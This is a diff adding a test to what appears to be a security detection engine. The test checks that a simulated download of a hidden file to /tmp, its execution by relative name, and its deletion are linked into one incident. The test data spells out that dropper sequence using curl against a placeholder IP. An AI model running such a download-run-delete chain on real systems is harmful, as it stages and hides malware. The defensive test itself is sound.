@@ -111,6 +111,19 @@ def test_drop_chmod_run_in_tmp_alerts_with_the_download_named(engine):
     assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident
 
 
+def test_a_hidden_file_run_by_a_relative_name_without_a_working_directory_keeps_its_name(engine):
+    """Sources that report no cwd: `./.x` is the `.x` downloaded to /tmp (the only file of that name), and
+    the dot stays (a hidden name is where droppers hide, and the reasons name the file as written)."""
+    session = Session()
+    events = [session.exec("curl -s -o /tmp/.cache-upd http://203.0.113.9/x", 100, "bash", cwd=""),
+              session.exec("./.cache-upd", 100, "bash", cwd="", path=""),
+              session.exec("rm ./.cache-upd", 100, "bash", cwd="")]
+    verdicts = _score(engine, events)
+    assert any(r.startswith("runs /tmp/.cache-upd, downloaded by curl") for r in verdicts[1].reasons), verdicts[1]
+    assert any(r.startswith("deletes /tmp/.cache-upd after it ran") for r in verdicts[2].reasons), verdicts[2]
+    assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident
+
+
 def test_a_download_that_looks_routine_joins_the_incident_its_file_starts(engine):
     """The download alone is ordinary (scored below warn); making it executable starts the incident, and the
     download of the same batch is part of it."""
